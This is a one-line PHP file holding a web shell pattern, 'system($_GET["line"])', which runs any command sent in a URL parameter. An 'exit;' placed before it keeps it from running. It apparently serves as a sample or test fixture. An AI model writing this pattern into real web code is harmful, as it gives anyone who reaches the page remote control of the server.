<?php exit; system($_GET["line"]);
